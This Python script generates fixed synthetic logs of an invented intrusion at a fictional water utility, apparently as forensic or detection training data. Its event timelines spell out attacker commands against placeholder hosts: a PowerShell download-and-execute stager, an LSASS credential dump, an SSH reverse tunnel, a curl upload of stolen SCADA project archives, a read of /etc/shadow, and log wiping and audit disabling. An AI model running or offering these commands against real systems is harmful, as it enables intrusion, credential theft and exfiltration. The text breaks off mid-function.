"""Write the logs of an invented intrusion at an invented water utility.

Usage: python examples/water-utility/generate.py OUT

The output is the same on every run: the seed and all times are fixed. Names, addresses and hosts are made up
(RFC 1918, RFC 5737 and RFC 2606). README.md tells the story.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import random
import re
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from plant_network import write_network

Fields = dict[str, str | int]
Timeline = list[tuple[datetime, Fields]]

DAY = datetime(2026, 10, 6, tzinfo=UTC)
DOMAIN = "RIVERDALE"
SYSTEM32 = "C:\\Windows\\System32\\"
OFFICE_ROOT = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYSTEM32 + "cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SERVICES = SYSTEM32 + "services.exe"
SVCHOST = SYSTEM32 + "svchost.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
PORTAL = "C:\\Program Files\\Engineering Portal V17\\bin\\Portal.exe"
PANEL = "C:\\Program Files\\Panel Runtime\\runtime.exe"
LIBRARIES = "C:\\Users\\Public\\Libraries\\"
STAGE_HOST = "mail.billing-portal.example"
STAGE_IP = "203.0.113.77"
DROP_IP = "198.51.100.23"
DNS_SERVER = "10.20.1.10"
STAGER = f"IEX (New-Object Net.WebClient).DownloadString('https://{STAGE_HOST}/u.ps1')"


@dataclass(frozen=True, slots=True)
class Host:
    """A Windows host: its names, its address, its usual user, and how much ordinary activity it logs."""

    name: str
    address: str
    user: str
    events: int

    @property
    def account(self) -> str:
        """Return the user with the domain."""
        return f"{DOMAIN}\\{self.user}"


OFFICE = Host("OFFICE-PC-07", "10.20.4.17", "m.keller", 900)
JUMP = Host("JUMP-01", "10.20.5.10", "adm.fischer", 620)
ENGINEERING = Host("ENG-WS-02", "10.20.6.32", "e.novak", 820)
HISTORIAN_IP = "10.20.6.5"


def at(clock: str) -> datetime:
    """Return the time of the day of the intrusion, from `HH:MM:SS`."""
    hour, minute, second = (int(part) for part in clock.split(":"))
    return DAY + timedelta(hours=hour, minutes=minute, seconds=second, milliseconds=(hour * 37 + second * 13) % 1000)


def sysmon(event_id: int, **fields: str | int) -> Fields:
    """Return an event of Sysmon."""
    head: Fields = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": event_id}
    return head | {"Provider_Name": "Microsoft-Windows-Sysmon"} | fields


def security(event_id: int, **fields: str | int) -> Fields:
    """Return an event of the security log."""
    provider = "Microsoft-Windows-Eventlog" if event_id == 1102 else "Microsoft-Windows-Security-Auditing"
    head: Fields = {"Channel": "Security", "EventID": event_id, "Provider_Name": provider}
    return head | fields


def system(event_id: int, **fields: str | int) -> Fields:
    """Return an event of the service control manager."""
    head: Fields = {"Channel": "System", "EventID": event_id, "Provider_Name": "Service Control Manager"}
    return head | fields


def script_block(text: str) -> Fields:
    """Return the PowerShell event that holds a script block."""
    head: Fields = {"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104}
    digest = hashlib.sha256(text.encode()).hexdigest()
    block = f"{digest[:8]}-{digest[8:12]}-4{digest[13:16]}-a{digest[17:20]}-{digest[20:32]}"
    head |= {"Provider_Name": "Microsoft-Windows-PowerShell", "MessageNumber": 1, "MessageTotal": 1}
    return head | {"ScriptBlockText": text, "ScriptBlockId": block, "Path": ""}


def process(image: str, command: str, parent: str, user: str) -> Fields:
    """Return a process creation; ids and hash follow from the command, so that they are the same on every run."""
    digest = hashlib.sha256(f"{image}|{command}|{parent}".encode()).hexdigest()
    hashes = "SHA256=" + hashlib.sha256(image.casefold().encode()).hexdigest().upper()
    integrity = "System" if user.startswith("NT AUTHORITY") else "Medium"
    return sysmon(
        1,
        ProcessId=1000 + int(digest[:4], 16) // 8 * 4,
        Image=image,
        CommandLine=command,
        CurrentDirectory=SYSTEM32,
        User=user,
        IntegrityLevel=integrity,
        Hashes=hashes,
        ParentProcessId=600 + int(digest[4:8], 16) // 8 * 4,
        ParentImage=parent,
    )


def exited(image: str, user: str) -> Fields:
    """Return the end of a process."""
    return sysmon(5, Image=image, User=user)


def connection(host: Host, image: str, address: str, port: int) -> Fields:
    """Return an outgoing TCP connection."""
    source = 49152 + int(hashlib.sha256(f"{image}{address}{port}".encode()).hexdigest()[:4], 16) % 16000
    return sysmon(
        3,
        Image=image,
        User=host.account,
        Protocol="tcp",
        Initiated="true",
        SourceIp=host.address,
        SourcePort=source,
        DestinationIp=address,
        DestinationPort=port,
    )


def opened(source: str, target: str, rights: str, trace: str) -> Fields:
    """Return an access of one process to another."""
    ntdll = SYSTEM32 + "ntdll.dll+9d4c4"
    return sysmon(10, SourceImage=source, TargetImage=target, GrantedAccess=rights, CallTrace=f"{ntdll}|{trace}")


def wrote(image: str, path: str) -> Fields:
    """Return the creation of a file."""
    return sysmon(11, Image=image, TargetFilename=path)


def registry(image: str, key: str, details: str) -> Fields:
    """Return the setting of a registry value."""
    return sysmon(13, EventType="SetValue", Image=image, TargetObject=key, Details=details)


def loaded(image: str, library: str, signed: bool) -> Fields:
    """Return the loading of a library."""
    status = "Valid" if signed else "Unavailable"
    return sysmon(7, Image=image, ImageLoaded=library, Signed=str(signed).lower(), SignatureStatus=status)


def asked(image: str, name: str, answer: str) -> Fields:
    """Return a DNS question."""
    return sysmon(22, Image=image, QueryName=name, QueryStatus="0", QueryResults=answer)


def logon(user: str, kind: int, address: str = "-", **more: str | int) -> Fields:
    """Return a successful logon."""
    package = "Kerberos" if kind == 3 else "Negotiate"
    name = {9: "seclogo", 3: "Kerberos", 5: "Advapi"}.get(kind, "User32")
    head = security(4624, TargetUserName=user, TargetDomainName=DOMAIN, LogonType=kind, LogonProcessName=name)
    return head | {"AuthenticationPackageName": package, "IpAddress": address, "TargetOutboundUserName": "-"} | more


def service(name: str, path: str) -> Fields:
    """Return the installation of a service."""
    kind = {"ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"}
    return system(7045, ServiceName=name, ImagePath=path, **kind)


def encoded(script: str) -> str:
    """Return a script in the form that PowerShell takes as an encoded command."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def office_story() -> Timeline:
    """Return the first hour: the document, the stager, discovery and the theft of credentials."""
    me, word, mshta = OFFICE.account, OFFICE_ROOT + "WINWORD.EXE", SYSTEM32 + "mshta.exe"
    mail, lsass = "C:\\Users\\m.keller\\Downloads\\Meter_reading_complaint.docm", SYSTEM32 + "lsass.exe"
    nltest, rundll32, wmic = SYSTEM32 + "nltest.exe", SYSTEM32 + "rundll32.exe", SYSTEM32 + "wbem\\WMIC.exe"
    run_key = "HKU\\S-1-5-21-1004-2201-771-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LibrarySync"
    dump = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 704 {LIBRARIES}lsass-704.bin full"
    start = 'wmic /node:JUMP-01 process call create "cmd.exe /c hostname"'
    return [
        (at("06:12:30"), wrote(OFFICE_ROOT + "OUTLOOK.EXE", mail)),
        (at("06:12:41"), process(word, f'"{word}" /n "{mail}"', EXPLORER, me)),
        (at("06:12:58"), wrote(word, "C:\\Users\\m.keller\\AppData\\Roaming\\view.hta")),
        (at("06:13:02"), process(mshta, f"mshta.exe https://{STAGE_HOST}/view", word, me)),
        (at("06:13:03"), asked(mshta, STAGE_HOST, f"::ffff:{STAGE_IP};")),
        (at("06:13:04"), connection(OFFICE, mshta, STAGE_IP, 443)),
        (at("06:13:09"), process(POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded(STAGER)}", mshta, me)),
        (at("06:13:11"), script_block(STAGER)),
        (at("06:13:12"), connection(OFFICE, POWERSHELL, STAGE_IP, 443)),
        (at("06:20:15"), process(SYSTEM32 + "whoami.exe", "whoami /groups", POWERSHELL, me)),
        (at("06:20:48"), process(nltest, "nltest /domain_trusts /all_trusts", POWERSHELL, me)),
        (at("06:21:30"), process(SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', POWERSHELL, me)),
        (at("06:31:05"), process(rundll32, dump, POWERSHELL, me)),
        (at("06:31:06"), opened(rundll32, lsass, "0x1fffff", SYSTEM32 + "dbgcore.DLL+7e2e")),
        (at("06:31:07"), wrote(rundll32, LIBRARIES + "lsass-704.bin")),
        (at("06:34:40"), registry(POWERSHELL, run_key, LIBRARIES + "sync.exe")),
        (at("06:45:11"), logon("m.keller", 9, "::1", TargetOutboundUserName="adm.fischer")),
        (at("06:47:02"), process(wmic, start, CMD, me)),
        (at("06:47:03"), connection(OFFICE, wmic, JUMP.address, 135)),
    ]


def jump_story() -> Timeline:
    """Return what happened on the jump host: remote execution, a tunnel out, the way on, the cleared logs."""
    admin, local = JUMP.account, "NT AUTHORITY\\SYSTEM"
    ssh, wevtutil, mstsc = SYSTEM32 + "OpenSSH\\ssh.exe", SYSTEM32 + "wevtutil.exe", SYSTEM32 + "mstsc.exe"
    tunnel = f"ssh -N -R 8022:{HISTORIAN_IP}:22 -i C:\\ProgramData\\ssh\\k relay@{DROP_IP}"
    cleared: Fields = {"SubjectUserName": "adm.fischer", "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3f21c"}
    wiped: Fields = {"Channel": "System", "EventID": 104, "Provider_Name": "Microsoft-Windows-Eventlog"}
    return [
        (at("06:47:03"), logon("adm.fischer", 3, OFFICE.address)),
        (at("06:47:03"), security(4672, SubjectUserName="adm.fischer", PrivilegeList="SeDebugPrivilege")),
        (at("06:47:04"), process(CMD, "cmd.exe /c hostname", SYSTEM32 + "wbem\\WmiPrvSE.exe", admin)),
        (at("06:48:30"), service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")),
        (at("06:48:31"), system(7036, param1="PSEXESVC", param2="running")),
        (at("06:48:33"), process(CMD, "cmd.exe", "C:\\Windows\\PSEXESVC.exe", local)),
        (at("06:55:20"), process(ssh, tunnel, CMD, admin)),
        (at("06:55:21"), connection(JUMP, ssh, DROP_IP, 22)),
        (at("07:05:02"), process(mstsc, "mstsc.exe /v:ENG-WS-02", EXPLORER, admin)),
        (at("07:05:04"), connection(JUMP, mstsc, ENGINEERING.address, 3389)),
        (at("07:31:40"), process(ssh, f"ssh hist_ops@{HISTORIAN_IP}", CMD, admin)),
        (at("07:31:41"), connection(JUMP, ssh, HISTORIAN_IP, 22)),
        (at("08:14:00"), process(wevtutil, "wevtutil cl System", CMD, admin)),
        (at("08:14:01"), wiped | cleared | {"BackupPath": ""}),
        (at("08:14:20"), process(wevtutil, "wevtutil cl Security", CMD, admin)),
        (at("08:14:21"), security(1102, **cleared)),
    ]


def engineering_story() -> Timeline:
    """Return what happened on the engineering workstation: projects collected, controllers probed, a way back in."""
    admin, share = f"{DOMAIN}\\adm.fischer", "D:\\PLC_Projects\\Well3"
    seven, copy = "C:\\Program Files\\7-Zip\\7z.exe", SYSTEM32 + "Robocopy.exe"
    stage, remote = LIBRARIES + "w\\", "C:\\Users\\Public\\AnyDesk.exe"
    probe = "1..20 | ForEach-Object { Test-NetConnection 10.20.8.$_ -Port 502 }"
    pack = f"7z.exe a -mhe=on -pRiver {LIBRARIES}w.7z {share}\\Well3.ap17 D:\\PLC_Projects\\Booster\\Booster.ap17"
    return [
        (at("07:05:09"), logon("adm.fischer", 10, JUMP.address)),
        (at("07:05:09"), security(4672, SubjectUserName="adm.fischer", PrivilegeList="SeDebugPrivilege")),
        (at("07:10:12"), process(remote, "AnyDesk.exe --silent", EXPLORER, admin)),
        (at("07:14:02"), process(copy, f"robocopy {share} {stage} *.ap17 /s", CMD, admin)),
        (at("07:14:03"), wrote(copy, stage + "Well3.ap17")),
        (at("07:18:30"), process(seven, pack, CMD, admin)),
        (at("07:18:44"), wrote(seven, LIBRARIES + "w.7z")),
        (at("07:21:05"), script_block(probe)),
        (at("07:21:06"), connection(ENGINEERING, POWERSHELL, "10.20.8.14", 502)),
        (at("07:25:31"), service("Library Synchronisation", LIBRARIES + "sync.exe")),
        (at("07:29:50"), security(4634, TargetUserName="adm.fischer", LogonType=10)),
    ]


Maker = Callable[[Host, random.Random], Fields]

COMMON_PROGRAMS = (
    (SVCHOST, f"{SVCHOST} -k netsvcs -p -s Schedule", SERVICES, True),
    (SVCHOST, f"{SVCHOST} -k LocalService -p", SERVICES, True),
    (SYSTEM32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App", SVCHOST, False),
    (SYSTEM32 + "conhost.exe", "conhost.exe 0x4", CMD, False),
    (SYSTEM32 + "taskhostw.exe", "taskhostw.exe", SVCHOST, True),
    (SYSTEM32 + "wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding", SVCHOST, True),
    (SYSTEM32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe Global", SYSTEM32 + "SearchIndexer.exe", True),
    (SYSTEM32 + "gpupdate.exe", "gpupdate.exe /target:computer", SVCHOST, True),
    (SYSTEM32 + "rundll32.exe", "rundll32.exe Startupscan.dll,SusRunTask", SVCHOST, True),
    (SYSTEM32 + "wevtutil.exe", "wevtutil.exe gl Security", CMD, False),
)
PROGRAMS = {
    OFFICE.name: (
        (EDGE, f'"{EDGE}" --type=renderer', EDGE, False),
        (OFFICE_ROOT + "OUTLOOK.EXE", f'"{OFFICE_ROOT}OUTLOOK.EXE"', EXPLORER, False),
        (OFFICE_ROOT + "EXCEL.EXE", f'"{OFFICE_ROOT}EXCEL.EXE" "H:\\Billing\\2026-09.xlsx"', EXPLORER, False),
        ("C:\\Windows\\splwow64.exe", "splwow64.exe 8192", OFFICE_ROOT + "WINWORD.EXE", False),
    ),
    JUMP.name: (
        (SYSTEM32 + "mstsc.exe", "mstsc.exe /v:HMI-03", EXPLORER, False),
        (SYSTEM32 + "OpenSSH\\ssh.exe", f"ssh -l hist_ops {HISTORIAN_IP}", CMD, False),
        (SYSTEM32 + "net.exe", "net use", CMD, False),
        (SYSTEM32 + "mmc.exe", "mmc.exe eventvwr.msc", EXPLORER, False),
    ),
    ENGINEERING.name: (
        (PORTAL, f'"{PORTAL}" D:\\PLC_Projects\\Well3\\Well3.ap17', EXPLORER, False),
        (PANEL, f'"{PANEL}" /simulate', PORTAL, False),
        (SYSTEM32 + "Robocopy.exe", "robocopy D:\\Logs E:\\Archive /mir", CMD, False),
        ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a E:\\Archive\\alarms.7z D:\\Logs", CMD, False),
    ),
}
DESTINATIONS = {
    OFFICE.name: ((EDGE, "192.0.2.34", 443), (OFFICE_ROOT + "OUTLOOK.EXE", "10.20.1.20", 443)),
    JUMP.name: ((SYSTEM32 + "mstsc.exe", "10.20.6.41", 3389), (SYSTEM32 + "OpenSSH\\ssh.exe", HISTORIAN_IP, 22)),
    ENGINEERING.name: ((PORTAL, "10.20.8.14", 102), (PANEL, "10.20.8.15", 502), (PANEL, HISTORIAN_IP, 5432)),
}
NAMES = ("intranet.riverdale-water.example", "time.riverdale-water.example", "wpad.riverdale-water.example")
WEB_NAMES = (*NAMES, "weather.example.org", "www.example.com", "tiles.maps.example.net")
FILES = ("Temp\\~DF{}.TMP", "Microsoft\\Windows\\INetCache\\{}.htm", "Microsoft\\Edge\\User Data\\Default\\Cache\\f_{}")
LIBRARIES_OF_WINDOWS = ("kernel32.dll", "ucrtbase.dll", "crypt32.dll", "dbghelp.dll", "taskschd.dll", "winhttp.dll")
SERVICES_OF_WINDOWS = (
    "Windows Update",
    "Background Intelligent Transfer Service",
    "Print Spooler",
    "Device Setup Manager",
)
SCRIPTS = (
    "Get-Service | Where-Object Status -eq 'Running' | Measure-Object",
    "Get-ChildItem D:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30)",
    "Get-MpComputerStatus | Select-Object AntivirusSignatureLastUpdated",
    "prompt",
)
KEYS = (
    ("HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "QWORD (0x01dbf3a1-0x7c2e9b10)"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\LastScan", "2026-10-06 05:00:12"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureLocation", "C:\\ProgramData\\Defs"),
    (
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\PanelTray",
        '"C:\\Program Files\\Panel Runtime\\tray.exe"',
    ),
)


def any_process(host: Host, rng: random.Random) -> Fields:
    """Return the start of an ordinary program."""
    image, command, parent, is_system = rng.choice(COMMON_PROGRAMS + PROGRAMS[host.name])
    return process(image, command, parent, "NT AUTHORITY\\SYSTEM" if is_system else host.account)


def any_exit(host: Host, rng: random.Random) -> Fields:
    """Return the end of an ordinary program."""
    return exited(rng.choice(COMMON_PROGRAMS + PROGRAMS[host.name])[0], host.account)


def any_connection(host: Host, rng: random.Random) -> Fields:
    """Return an ordinary connection."""
    return connection(host, *rng.choice((*DESTINATIONS[host.name], (SVCHOST, DNS_SERVER, 53))))


def any_library(host: Host, rng: random.Random) -> Fields:
    """Return the loading of a signed library of Windows."""
    image = rng.choice(PROGRAMS[host.name])[0]
    return loaded(image, SYSTEM32 + rng.choice(LIBRARIES_OF_WINDOWS), signed=True)


def any_access(_: Host, rng: random.Random) -> Fields:
    """Return an ordinary access to LSASS or another process, with rights to ask but not to read."""
    target = rng.choice((SYSTEM32 + "lsass.exe", SVCHOST, EXPLORER))
    return opened(SVCHOST, target, rng.choice(("0x1000", "0x1400")), SYSTEM32 + "KERNELBASE.dll+2c13e")


def any_file(host: Host, rng: random.Random) -> Fields:
    """Return the creation of an ordinary file."""
    name = rng.choice(FILES).format(f"{rng.randrange(16**6):06x}")
    path = f"C:\\Users\\{host.user}\\AppData\\Local\\{name}"
    return wrote(rng.choice((EDGE, EXPLORER, SVCHOST)), path)


def any_value(_: Host, rng: random.Random) -> Fields:
    """Return the setting of an ordinary registry value."""
    key, details = rng.choice(KEYS)
    return registry(SVCHOST, key, details)


def any_question(host: Host, rng: random.Random) -> Fields:
    """Return an ordinary DNS question; hosts of the control network ask for internal names only."""
    name = rng.choice(WEB_NAMES if host is OFFICE else NAMES)
    return asked(EDGE if host is OFFICE else SVCHOST, name, "::ffff:10.20.1.30;" if name in NAMES else "::ffff:192.0.2.34;")


def any_logon(host: Host, rng: random.Random) -> Fields:
    """Return an ordinary event of logging on or off."""
    machine = host.name + "$"
    choices = (
        logon("SYSTEM", 5),
        logon(machine, 3, host.address),
        logon(host.user, rng.choice((2, 7)), "127.0.0.1"),
        security(4634, TargetUserName=machine, TargetDomainName=DOMAIN, LogonType=3),
        security(4672, SubjectUserName="SYSTEM", SubjectUserSid="S-1-5-18", PrivilegeList="SeTcbPrivilege"),
    )
    return rng.choice(choices)


def any_4688(host: Host, rng: random.Random) -> Fields:
    """Return the built-in record of a process creation."""
    image, command, parent, _ = rng.choice(COMMON_PROGRAMS)
    process_id, parent_id = (hex(rng.randrange(400, 9000) * 4) for _ in range(2))
    names = {"NewProcessName": image, "CommandLine": command, "ParentProcessName": parent}
    return security(4688, SubjectUserName=host.name + "$", NewProcessId=process_id, ProcessId=parent_id, **names)


def any_failure(host: Host, _: random.Random) -> Fields:
    """Return a mistyped password."""
    reason: Fields = {"Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": 2, "IpAddress": "127.0.0.1"}
    return security(4625, TargetUserName=host.user, TargetDomainName=DOMAIN, **reason)


def any_service(_: Host, rng: random.Random) -> Fields:
    """Return a change of state of a service."""
    return system(7036, param1=rng.choice(SERVICES_OF_WINDOWS), param2=rng.choice(("running", "stopped")))


def any_script(_: Host, rng: random.Random) -> Fields:
    """Return an ordinary script block."""
    return script_block(rng.choice(SCRIPTS))


MAKERS: tuple[tuple[Maker, int], ...] = (
    (any_process, 16),
    (any_exit, 8),
    (any_connection, 14),
    (any_library, 10),
    (any_access, 8),
    (any_file, 12),
    (any_value, 8),
    (any_question, 10),
    (any_logon, 12),
    (any_4688, 5),
    (any_failure, 1),
    (any_service, 6),
    (any_script, 2),
)


def ordinary(host: Host, rng: random.Random) -> Iterator[tuple[datetime, Fields]]:
    """Yield the ordinary activity of a host between half past four and half past ten."""
    makers, weights = zip(*MAKERS, strict=True)
    for maker in rng.choices(makers, weights, k=host.events):
        yield DAY + timedelta(milliseconds=rng.randrange(16_200_000, 37_800_000)), maker(host, rng)


def windows_lines(host: Host, story: Timeline, rng: random.Random) -> str:
    """Return the log of a Windows host as JSON lines in time order, each channel with its own record numbers."""
    numbers: Counter[str] = Counter({"Security": 88_120, "System": 21_400})
    lines = []
    for when, fields in sorted([*story, *ordinary(host, rng)], key=lambda entry: entry[0]):
        channel = str(fields["Channel"])
        numbers[channel] += 1
        time = when.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        head: Fields = {key: fields[key] for key in ("Channel", "EventID", "Provider_Name")}
        head |= {"Computer": host.name, "TimeCreated": time, "EventRecordID": numbers[channel]}
        lines.append(json.dumps(head | fields))
    return "\n".join(lines) + "\n"


USER_IDS = ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid")


class Audit:
    """A growing audit log: every record of one event has the same time and serial number."""

    def __init__(self) -> None:
        self.events: list[tuple[datetime, list[str]]] = []

    def add(self, when: datetime, *records: str) -> None:
        """Add an event of one or more records; `{id}` stands for its time and number."""
        self.events.append((when, list(records)))

    def execute(self, when: datetime, image: str, *args: str, cwd: str = "/root", login: int = 1001, uid: int = 0) -> None:
        """Add an execution: SYSCALL, EXECVE, CWD, PATH, PROCTITLE."""
        number = int(hashlib.sha256(f"{when}{image}".encode()).hexdigest()[:6], 16)
        terminal = "(none) ses=4294967295" if login == 4294967295 else "pts1 ses=31"
        users = " ".join(f"{name}={uid}" for name in USER_IDS)
        call = f"arch=c000003e syscall=59 success=yes exit=0 a0={number:x}0 a1={number:x}8 a2={number:x}c a3=8 items=2"
        ids = f"ppid={2000 + number % 400} pid={2400 + number % 9000} auid={login} {users}"
        name = image.rpartition("/")[2][:15]
        self.add(
            when,
            f'type=SYSCALL {{id}}: {call} {ids} tty={terminal} comm="{name}" exe="{image}" key="exec"',
            f"type=EXECVE {{id}}: argc={len(args)} " + " ".join(f"a{i}={quoted(arg)}" for i, arg in enumerate(args)),
            f'type=CWD {{id}}: cwd="{cwd}"',
            path_record(0, image, "NORMAL", 100755),
            f"type=PROCTITLE {{id}}: proctitle={title(args)}",
        )

    def create(self, when: datetime, image: str, path: str) -> None:
        """Add the creation of a watched file."""
        ids = "ppid=2310 pid=2412 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0"
        call = "arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55d0 a2=241 a3=1b6 items=2"
        name = image.rpartition("/")[2]
        self.add(
            when,
            f'type=SYSCALL {{id}}: {call} {ids} tty=pts1 ses=31 comm="{name}" exe="{image}" key="watch"',
            'type=CWD {id}: cwd="/root"',
            path_record(0, path.rpartition("/")[0] + "/", "PARENT", 40755),
            path_record(1, path, "CREATE", 100644),
            f"type=PROCTITLE {{id}}: proctitle={quoted(name)}",
        )

    def text(self) -> str:
        """Return the log in time order."""
        lines = []
        for number, (when, records) in enumerate(sorted(self.events, key=lambda event: event[0])):
            mark = f"msg=audit({when.timestamp():.3f}:{52_100 + number})"
            lines += [record.replace("{id}", mark) for record in records]
        return "\n".join(lines) + "\n"


def quoted(argument: str) -> str:
    """Return an argument as auditd writes it: in quotes, or in hexadecimal when it has blanks or quotes."""
    return argument.encode().hex().upper() if re.search(r'[\s"]', argument) else f'"{argument}"'


def title(args: tuple[str, ...]) -> str:
    """Return a process title: at most 128 bytes, in hexadecimal unless it is a single plain word."""
    return quoted(args[0]) if len(args) == 1 else "\0".join(args).encode()[:128].hex().upper()


def path_record(item: int, name: str, kind: str, mode: int) -> str:
    """Return a PATH record."""
    inode = 1000 + int(hashlib.sha256(name.encode()).hexdigest()[:4], 16)
    caps = "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
    return (
        f'type=PATH {{id}}: item={item} name="{name}" inode={inode} dev=08:01 mode=0{mode} '
        f"ouid=0 ogid=0 rdev=00:00 nametype={kind} {caps}"
    )


def account_record(kind: str, operation: str, who: str, program: str, address: str) -> str:
    """Return one of the records that PAM and sshd write about an account."""
    terminal = "cron" if program.endswith("cron") else "ssh"
    inner = f'op={operation} {who} exe="{program}" hostname={address} addr={address} terminal={terminal} res=success'
    return f"type={kind} {{id}}: pid=2210 uid=0 auid=1001 ses=31 msg='{inner}'"


def audit_story(audit: Audit) -> None:
    """Add what the intruder did on the historian, until the audit was switched off."""
    sshd, who = "/usr/sbin/sshd", 'acct="hist_ops"'
    audit.add(at("07:34:20"), account_record("USER_AUTH", "PAM:authentication grantors=pam_unix", who, sshd, JUMP.address))
    audit.add(at("07:34:20"), account_record("CRED_ACQ", "PAM:setcred grantors=pam_unix", who, sshd, JUMP.address))
    audit.add(at("07:34:21"), account_record("USER_LOGIN", "login", "id=1001", sshd, JUMP.address))
    audit.execute(at("07:36:02"), "/usr/bin/id", "id", cwd="/home/hist_ops", uid=1001)
    audit.execute(at("07:40:15"), "/usr/bin/cat", "cat", "/etc/shadow")
    audit.execute(at("07:42:31"), "/usr/bin/tar", "tar", "czf", "/dev/shm/.t.tgz", "/srv/historian/projects", "/srv/scada")
    audit.execute(at("07:44:08"), "/usr/bin/curl", "curl", "-s", "-T", "/dev/shm/.t.tgz", f"https://{DROP_IP}/u/")
    audit.create(at("07:46:50"), "/usr/bin/bash", "/etc/cron.d/sysstat-2")
    audit.create(at("07:48:12"), "/usr/bin/bash", "/home/hist_ops/.ssh/authorized_keys")
    audit.execute(at("08:00:02"), "/dev/shm/.k", "/dev/shm/.k", "-q", login=4294967295)
    audit.execute(at("08:10:05"), "/usr/bin/truncate", "truncate", "-s", "0", "/var/log/auth.log")
    audit.execute(at("08:10:30"), "/usr/bin/shred", "shred", "-u", "/root/.bash_history")
    audit.execute(at("08:11:00"), "/usr/sbin/auditctl", "auditctl", "-e", "0")
    audit.add(at("08:11:01"), "type=CONFIG_CHANGE {id}: op=set audit_enabled=0 old=1 auid=1001 ses=31 res=1")


ORDINARY_COMMANDS = (
    ("/usr/bin/dash", "/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    ("/usr/lib/sysstat/sadc", "sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"),
    ("/usr/bin/find", "find", "/srv/historian/spool", "-name", "*.tmp", "-mmin", "+60"),
    ("/usr/bin/python3.11", "python3", "/opt/historian/bin/compact.py", "--keep", "400d"),
    ("/usr/bin/rsync", "rsync", "-aL", "/srv/historian/out/", "/srv/diode/outbox/"),
    ("/usr/bin/systemctl", "systemctl", "is-active", "historian.service"),
    ("/usr/bin/gzip", "gzip", "-9", "/var/log/historian/ingest.log.1"),
    ("/usr/bin/pg_isready", "pg_isready", "-h", "localhost", "-p", "5432"),
    ("/usr/bin/tar", "tar", "czf", "/backup/historian-daily.tgz", "/srv/historian/projects"),
    ("/usr/bin/curl", "curl", "-s", "http://localhost:8086/health"),
)


def ordinary_audit(audit: Audit, rng: random.Random) -> None:
    """Add the ordinary work of the historian's jobs, from the evening before until the audit ends."""
    start, end = DAY - timedelta(hours=4), at("08:10:00")
    for _ in range(240):
        when = start + timedelta(milliseconds=rng.randrange(int((end - start).total_seconds() * 1000)))
        image, *args = rng.choice(ORDINARY_COMMANDS)
        audit.execute(when, image, *args, cwd="/", login=4294967295, uid=rng.choice((0, 998)))
    for hour in range(-4, 8):
        when = DAY + timedelta(hours=hour, minutes=17, seconds=1)
        audit.add(when, account_record("CRED_ACQ", "PAM:setcred grantors=pam_permit", 'acct="root"', "/usr/sbin/cron", "?"))
        audit.add(
            when,
            account_record("USER_START", "PAM:session_open grantors=pam_limits", 'acct="root"', "/usr/sbin/cron", "?"),
        )


AuthLines = list[tuple[datetime, str]]


def cron_session(when: datetime, user: str, command: str, process_id: int) -> AuthLines:
    """Return the three lines of a cron job."""
    tag, session = f"CRON[{process_id}]: ", "pam_unix(cron:session): session"
    return [
        (when, f"{tag}{session} opened for user {user}(uid=0) by (uid=0)"),
        (when, f"{tag}({user}) CMD ({command})"),
        (when + timedelta(seconds=1), f"{tag}{session} closed for user {user}"),
    ]


def auth_story() -> AuthLines:
    """Return what the authentication log of the historian says of the intruder."""
    source = f"from {JUMP.address} port 50"
    refused = "sudo:  hist_ro : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/hist_ro ; USER=root ; COMMAND=/usr/bin/id"
    escape = "TTY=pts/1 ; PWD=/home/hist_ops ; USER=root ; COMMAND=/usr/bin/find /srv -maxdepth 0 -exec /bin/sh ;"
    limit = "error: maximum authentication attempts exceeded for"
    job = "/dev/shm/.k -q >/dev/null 2>&1"
    lines = [
        (at("07:32:05"), f"sshd[4101]: Failed password for hist_ops {source}088 ssh2"),
        (at("07:32:31"), f"sshd[4101]: {limit} hist_ops {source}088 ssh2 [preauth]"),
        (at("07:34:20"), f"sshd[4110]: Accepted password for hist_ops {source}112 ssh2"),
        (at("07:34:21"), "sshd[4110]: pam_unix(sshd:session): session opened for user hist_ops(uid=1001) by (uid=0)"),
        (at("07:35:40"), refused),
        (at("07:38:30"), f"sudo: hist_ops : {escape}"),
    ]
    return lines + cron_session(at("08:00:01"), "root", job, 5012)


def ordinary_auth(rng: random.Random) -> AuthLines:
    """Return the jobs and administrators of an ordinary night and morning."""
    lines: AuthLines = []
    for step in range(15 * 6):
        when = DAY + timedelta(hours=-4, minutes=10 * step, seconds=1)
        job = rng.choice(
